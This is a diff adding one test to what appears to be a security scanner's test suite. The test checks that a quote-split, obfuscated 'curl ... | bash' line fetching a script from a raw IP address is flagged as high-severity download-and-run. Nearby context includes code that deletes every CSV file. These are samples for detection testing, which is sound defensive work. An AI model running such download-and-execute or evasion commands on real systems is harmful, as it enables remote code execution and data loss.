@@ -147,6 +147,12 @@ def test_code_that_is_put_together_from_pieces_is_read_as_one(scan: Scan, ending
     assert _found(scan(**{f"tidy.{ending}": code + "\n"})).get(rule) in ("high", "medium")
 
 
+def test_another_finding_of_the_same_rule_hides_no_code_in_pieces(scan: Scan) -> None:
+    plain, pieces = "curl -s https://tidy.fresh.dev/install.sh | sh\n", "cu''rl http://185.22.33.44/x | ba''sh\n"
+    found = {one.line: one.severity for one in scan(**{"tidy.sh": plain + pieces}).findings if one.rule == "download-and-run"}
+    assert found[2] == "high"
+
+
 def test_deleting_without_a_word_is_found(scan: Scan) -> None:
     code = "import glob, os\nfor name in glob.glob('*.csv'):\n    os.remove(name)\n"
     assert _found(scan(**{"tidy.py": code}))["beside-purpose"] == "medium"
